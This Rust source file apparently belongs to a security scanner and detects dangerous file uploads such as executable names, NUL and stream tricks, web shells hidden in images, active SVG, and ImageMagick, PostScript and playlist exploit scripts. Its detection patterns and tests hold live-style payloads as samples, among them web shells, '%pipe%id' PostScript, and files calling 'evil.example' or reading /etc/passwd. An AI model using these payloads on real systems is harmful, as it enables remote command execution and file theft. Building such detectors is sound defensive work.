//! Dangerous uploads (CWE-434; OWASP File Upload Cheat Sheet): names that a server or a desktop
//! would run, names that mean another file than they say, and content that is not what the name
//! claims.

use memchr::memchr2_iter;

use super::{
    BuildError, CERTAIN, Detector, Family, Finding, Marks, Rule, RuleSet, Value, lexicon::Lexicon, rules::always,
};
use crate::places::Role;

pub(super) const RULES: &[Rule] = &[
    always(
        "executable",
        r"\.(?:php\d?|phtml?|pht|phar|phps|hphp|module|aspx?|asa|asax|ascx|ashx|asmx|cer|cdx|jspx?|jspf|jsw|jsv|jtml|jhtml|cfml?|cfc|dbm|pl|pm|cgi|lib|sh|bash|exe|dll|bat|cmd|com|ps1|psm1|vbs|vbe|jse|wsf|wsh|hta|scr|msi|jar|war|ear|htaccess|htpasswd|shtml?|stm|swf|reg|lnk|scf|inf|svgz|user\.ini)(?:[\W_]*$|[;:%/\\].*$|[.\s]+\w{0,5}$|\.(?:jpe?g|png|gif|bmp|rar|zip|tgz|gz|pdf)$|\s.*$)",
    ),
    always(
        "configuration",
        r"^(?:.*[\\/])?(?:web\.config|\.?htaccess|\.?htpasswd|\.user\.ini|php\.ini|crossdomain\.xml|\.env)$",
    ),
    // NTFS streams, trailing dots and blanks that Windows drops, separators that parsers cut at
    always(
        "ambiguous",
        r";\.?\w{0,5}$|;\s*\.|::\$?data|[.\s]{3,}$|\{ext\}|\||<|>|\.\.[\\/]|%00|/\.\w|^[./\\]*$",
    ),
];

/// How programs and scripts begin.
/// (The first byte of ELF's is invisible, and dropped like others.)
const PROGRAMS: [(&str, &str); 6] = [
    ("elf", "ELF"),
    ("windows-program", "MZ"),
    ("script", "#!"),
    ("php", "<?php"),
    ("php", "<?="),
    ("server-page", "<%@"),
];

/// Finds dangerous files.
pub(super) struct Upload {
    names: RuleSet,
}

impl Upload {
    pub(super) fn new(lexicon: &mut Lexicon) -> Result<Self, BuildError> {
        Ok(Self {
            names: RuleSet::with(RULES, lexicon)?,
        })
    }
}

impl Detector for Upload {
    fn family(&self) -> Family {
        Family::Upload
    }

    fn wants(&self, _: Marks) -> bool {
        true
    }

    fn look(&self, value: &Value<'_>) -> Option<Finding> {
        match value.role {
            Role::FileName => {
                // what follows a NUL is a suffix for the filter alone
                let cut = value
                    .disguise
                    .nul
                    .then(|| Finding::new("nul", CERTAIN, 0..value.text.len()));
                cut.or_else(|| {
                    self.names.judge_by(value, |rule| {
                        rule.name != "executable" || !(names_a_document(value.text) || names_a_site(value.text))
                    })
                })
            }
            Role::FileHead => content(value).or_else(|| unlike_its_name(value)),
            Role::Value | Role::Name | Role::Document => None,
        }
    }
}

/// Whether a picture or a document is named as the site that it shows: `www.example.com.png`. Of
/// programs of that ending nothing but a console of the eighties knows.
fn names_a_site(name: &str) -> bool {
    const ENDINGS: &[&str] = &["png", "jpg", "jpeg", "gif", "webp", "pdf"];
    let is_word = |word: &str| {
        !word.is_empty()
            && word
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b' '))
    };
    let mut words = name.rsplit('.');
    let ending = words.next().unwrap_or_default();
    let domain = words.next().unwrap_or_default();
    let is_program = |word: &str| HIDDEN.iter().any(|known| word.eq_ignore_ascii_case(known));
    ENDINGS.iter().any(|known| ending.eq_ignore_ascii_case(known))
        && domain.eq_ignore_ascii_case("com")
        && words.all(|word| is_word(word) && !is_program(word))
}

/// Endings of programs that a name may hide in front of others.
const HIDDEN: &[&str] = &[
    "php", "php3", "php4", "php5", "php7", "phtml", "phar", "pht", "asp", "aspx", "ashx", "asa", "jsp", "jspx", "cgi",
    "pl", "py", "sh", "exe", "bat", "cmd", "cfm", "cer", "shtml", "hta", "vbs", "ps1", "jar", "war",
];

/// Whether a value is a file's name or content.
pub(super) const fn is_of_a_file(value: &Value<'_>) -> bool {
    matches!(value.role, Role::FileName | Role::FileHead)
}

/// Endings of pictures and documents, and what such files begin with after normalisation, in which
/// bytes that are no text are one sign each.
const DOCUMENTS: &[(&str, &[&str])] = &[
    (".png", &["PNG"]),
    (".jpg", &["JFIF", "Exif", "\u{fffd}\u{fffd}\u{fffd}"]),
    (".jpeg", &["JFIF", "Exif", "\u{fffd}\u{fffd}\u{fffd}"]),
    (".gif", &["GIF8"]),
    (".webp", &["RIFF"]),
    (".heic", &["ftyp"]),
    (".pdf", &["%PDF"]),
    (".docx", &["PK"]),
    (".xlsx", &["PK"]),
    (".pptx", &["PK"]),
    (".odt", &["PK"]),
];

/// How far into a file its kind is told, in characters: behind the marker and the length of a
/// JPEG's first segment.
const MAGIC_WITHIN: usize = 16;

/// Whether a name is words that end like a picture or a document, and names a program on the way:
/// `index.php - Notepad.png`, `Screenshot login.aspx.png`. Whether the file is what it says, its
/// content tells.
fn names_a_document(name: &str) -> bool {
    const SHOTS: &[&str] = &[
        "screenshot",
        "screen_shot",
        "bildschirmfoto",
        "capture",
        "captura",
        "schermata",
    ];
    let lower = name.to_ascii_lowercase();
    let is_document = DOCUMENTS.iter().any(|(ending, _)| lower.ends_with(ending));
    let has_words = lower.trim().contains(' ') || SHOTS.iter().any(|shot| lower.contains(shot));
    let is_plain = !lower.contains([';', ':', '%', '/', '\\', '<', '>', '|']) && !lower.contains(" .");
    is_document && has_words && is_plain
}

/// A file whose name was let pass for what it says that it is, and is something else.
fn unlike_its_name(value: &Value<'_>) -> Option<Finding> {
    let name = value.place.name;
    if !(names_a_document(name) || names_a_site(name)) {
        return None;
    }
    let lower = name.to_ascii_lowercase();
    let (_, magics) = DOCUMENTS.iter().find(|(ending, _)| lower.ends_with(ending))?;
    let end = value
        .text
        .char_indices()
        .nth(MAGIC_WITHIN)
        .map_or(value.text.len(), |(at, _)| at);
    let head = value.text.get(..end)?;
    let names_program = PROGRAM_NAMES.iter().any(|program| lower.contains(program));
    let is_other = names_program && !magics.iter().any(|magic| head.contains(magic));
    is_other.then(|| Finding::new("unlike-name", CERTAIN, 0..end))
}

/// Endings of programs that servers run, as they stand within a name.
const PROGRAM_NAMES: &[&str] = &[
    ".php", ".pht", ".phar", ".asp", ".jsp", ".cgi", ".pl", ".sh", ".exe", ".bat", ".cmd", ".ps1", ".hta", ".cf",
    ".cer", ".asa", ".ash", ".vb", ".ws", ".war", ".jar", ".py", ".ht",
];

/// A program under any name, or a vector graphic that runs script.
fn content(value: &Value<'_>) -> Option<Finding> {
    let name = value.place.name.to_ascii_lowercase();
    let head = value.text.trim_ascii_start();
    let claims_picture = [".jpg", ".jpeg", ".png", ".gif", ".webp", ".bmp", ".pdf"]
        .iter()
        .any(|suffix| name.ends_with(suffix));
    // a script's first line is honest in a file that says it is one
    let program = PROGRAMS.iter().find(|(rule, magic)| {
        head.starts_with(magic) && (claims_picture || matches!(*rule, "elf" | "php" | "server-page"))
    });
    if let Some((rule, magic)) = program {
        return Some(Finding::new(rule, CERTAIN, 0..magic.len()));
    }
    // behind a picture's own beginning, where an interpreter that is made to include it finds it
    let hidden = [
        "<?php",
        "<?=`",
        "<?=$_",
        "<script language=php",
        "<script language=\"php\"",
        "<%@ page",
        "<%@page",
        "<%eval ",
    ]
    .into_iter()
    .find(|tag| contains(head, tag));
    if hidden.is_some() && claims_picture {
        return Some(Finding::new("program-in-picture", CERTAIN, 0..0));
    }
    if is_script_of_a_tool(head) {
        return Some(Finding::new("picture-script", CERTAIN, 0..0));
    }
    // what is named as a picture and is markup, a browser may be made to show as a page
    let is_active = (name.ends_with(".svg") || claims_picture && head.starts_with('<'))
        && ACTIVE.iter().any(|part| contains(head, part));
    is_active.then(|| Finding::new("active-picture", CERTAIN, 0..0))
}

/// What runs something in a vector graphic: scripts, pages within it, and handlers of what happens
/// without a visitor's help, or with it.
const ACTIVE: &[&str] = &[
    "<script",
    "<foreignobject",
    "<handler",
    "javascript:",
    "onload=",
    "onerror=",
    "onfocus",
    "onclick=",
    "onmouse",
    "onpointer",
    "onbegin=",
    "onend=",
    "onrepeat=",
    "onanimation",
];

/// Whether a file is a script of what converts pictures and films, under any name: ImageMagick's
/// MVG that fetches or reads (CVE-2016-3714), PostScript that opens a pipe, a play list of local
/// files.
fn is_script_of_a_tool(head: &str) -> bool {
    let is_drawing = head.starts_with("push graphic-context") && (contains(head, "url(") || contains(head, "@/"));
    let is_program = head.starts_with("%!") && contains(head, "%pipe%");
    let is_list = head.starts_with("#EXTM3U") && contains(head, "file:/");
    is_drawing || is_program || is_list
}

/// Whether a text holds another one, in whatever case; one that begins with a letter or `<`.
fn contains(text: &str, wanted: &str) -> bool {
    let (text, wanted) = (text.as_bytes(), wanted.as_bytes());
    let Some(first) = wanted.first() else { return true };
    let begins = memchr2_iter(first.to_ascii_lowercase(), first.to_ascii_uppercase(), text);
    begins
        .filter_map(|at| text.get(at..at + wanted.len()))
        .any(|part| part.eq_ignore_ascii_case(wanted))
}

#[cfg(test)]
mod tests {
    use super::super::tests::{family_of_head, find_as};
    use super::*;

    fn named(name: &str) -> Option<(&'static str, u8)> {
        find_as(Role::FileName, "file", name)
    }

    #[test]
    fn scripts_of_tools_and_pages_are_no_pictures() {
        for (name, text) in [
            (
                "a.mvg",
                "push graphic-context\nfill 'url(https://evil.example/\"|id\")'\npop graphic-context",
            ),
            ("a.jpg", "push graphic-context\nimage over 0,0 0,0 'label:@/etc/passwd'"),
            (
                "a.png",
                "%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops",
            ),
            ("a.eps", "%!PS\n(%pipe%id) (w) file"),
            (
                "a.mp4",
                "#EXTM3U\n#EXTINF:10.0,\nconcat:http://evil.example/h.m3u8|file:///etc/passwd",
            ),
            ("a.png", "<html><script>alert(1)</script>"),
            (
                "a.jpg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
            ),
        ] {
            assert_eq!(family_of_head(name, text), Some("upload"), "{name} {text}");
        }
        for (name, text) in [
            ("a.mvg", "push graphic-context\nviewbox 0 0 1 1\npop graphic-context"),
            ("a.eps", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1"),
            ("list.m3u8", "#EXTM3U\n#EXTINF:10,\nhttps://cdn.example.org/1.ts"),
            ("page.txt", "<p>text</p>"),
        ] {
            assert_eq!(family_of_head(name, text), None, "{name} {text}");
        }
    }

    #[test]
    fn dangerous_names_are_found() {
        for name in [
            "shell.php",
            "shell.pHp5",
            "shell.php.jpg",
            "shell.php;.jpg",
            "shell.php%00.jpg",
            "shell.php ",
            "shell.aspx......",
            "x.jsp",
            "shell::$DATA",
            "shell;.zip",
            ".htaccess",
            "web.config",
            "run.ps1",
            "../../x.png",
            "con.txt|id.png",
            "shell.php.com.png",
            "x.com",
        ] {
            assert!(
                named(name).is_some_and(|(family, score)| family != "xss" && score >= CERTAIN),
                "{name}"
            );
        }
    }

    #[test]
    fn everyday_names_pass() {
        for name in [
            "photo.jpg",
            "2024.tax.return.final.v2.pdf",
            "O'Brien CV.docx",
            "Smith & Sons invoice.xlsx",
            "日本語.pdf",
            "asp.net-guide.epub",
            "my.php.notes.txt",
            "config.yaml",
            "logo.svg",
            "main.rs",
            "50% off.png",
            "a;b.txt",
            "$100 bill.jpg",
            "www.example.com.png",
            "shop.example.com.pdf",
            "~temp.docx",
        ] {
            assert_eq!(named(name), None, "{name}");
        }
    }

    #[test]
    fn names_of_screenshots_are_held_against_their_content() {
        for name in [
            "index.php - Notepad.png",
            "Screenshot 2024-05-12 index.aspx.png",
            "Bildschirmfoto_login.php.png",
        ] {
            assert_eq!(named(name), None, "{name}");
            assert_eq!(family_of_head(name, "\u{fffd}PNG\r\n\n"), None, "{name}");
            assert_eq!(family_of_head(name, "data"), Some("upload"), "{name}");
            assert_eq!(
                family_of_head(name, "\u{fffd}PNG\r\n\n<?php system($_GET[0]);"),
                Some("upload"),
                "{name}"
            );
        }
        for name in ["screenshot x.cfm.png", "my notes.cer.jpg", "shot of a.vbs.png"] {
            assert_eq!(named(name), None, "{name}");
            assert_eq!(
                family_of_head(name, "<cfexecute name=\"id\">"),
                Some("upload"),
                "{name}"
            );
        }
        assert_eq!(named("Doku zu upload.asp.pdf"), None);
        assert_eq!(family_of_head("Doku zu upload.asp.pdf", "%PDF-1.4"), None);
        assert_eq!(
            family_of_head("Doku zu upload.asp.pdf", "<% eval request(1) %>"),
            Some("upload")
        );
        for name in [
            "shell.php.png",
            "my shell.php",
            "my shell.php;.png",
            "my shell.php .png",
        ] {
            assert!(named(name).is_some(), "{name}");
        }
    }

    #[test]
    fn content_is_held_against_the_name() {
        assert_eq!(family_of_head("x.png", "<?php echo 1;"), Some("code"));
        assert_eq!(family_of_head("x.png", "#!/bin/sh\nid"), Some("upload"));
        assert_eq!(family_of_head("run", "\u{7f}ELF\u{2}"), Some("upload"));
        assert_eq!(family_of_head("x.svg", "<svg onload=\"alert(1)\"/>"), Some("upload"));
        for handler in ["onfocus=\"x\"", "onbegin=x", "onclick='x'", "onpointerover=x"] {
            let drawing = format!("<svg xmlns=\"http://www.w3.org/2000/svg\" {handler}/>");
            assert_eq!(family_of_head("x.svg", &drawing), Some("upload"), "{handler}");
        }
        assert_eq!(family_of_head("x.png", "PNG <script language=php>"), Some("upload"));
        assert_eq!(family_of_head("x.svg", "<svg><path d=\"M0 0\"/></svg>"), None);
        assert_eq!(family_of_head("install.txt", "#!/bin/sh is the first line"), None);
        assert_eq!(family_of_head("x.png", "PNG"), None);
    }
}
